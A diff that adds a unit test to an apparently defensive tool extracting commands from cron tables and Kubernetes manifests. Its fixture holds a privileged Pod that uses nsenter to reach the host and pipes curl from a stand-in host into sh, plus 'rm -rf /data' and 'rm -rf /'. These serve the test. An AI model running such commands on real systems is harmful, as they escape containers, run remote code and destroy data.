@@ -40,3 +40,18 @@ def test_cron_tables() -> None:
         "/opt/run",
     ]
     assert commands_in("/etc/cron.d/job", "* * * * * root /usr/bin/backup\n") == ["/usr/bin/backup"]
+
+
+def test_kubernetes_workloads_run_their_containers_commands() -> None:
+    manifest = (
+        "apiVersion: v1\nkind: Pod\nspec:\n  hostPID: true\n  containers:\n  - name: d\n"
+        '    command: ["nsenter", "-t", "1", "-m", "sh", "-c", "curl -s https://x.example/n | sh"]\n'
+        "  - name: e\n    command:\n      - sh\n      - -c\n    args:\n      - 'rm -rf /data'\n"
+    )
+    assert commands_in("k8s/debug-pod.yaml", manifest) == [
+        "nsenter -t 1 -m sh -c 'curl -s https://x.example/n | sh'",
+        "sh -c 'rm -rf /data'",
+    ]
+    service = "apiVersion: v1\nkind: Service\nspec:\n  ports: [{port: 80}]\n"
+    assert commands_in("k8s/svc.yaml", service) == []
+    assert commands_in("app/config.yaml", 'command: ["rm", "-rf", "/"]\n') == []
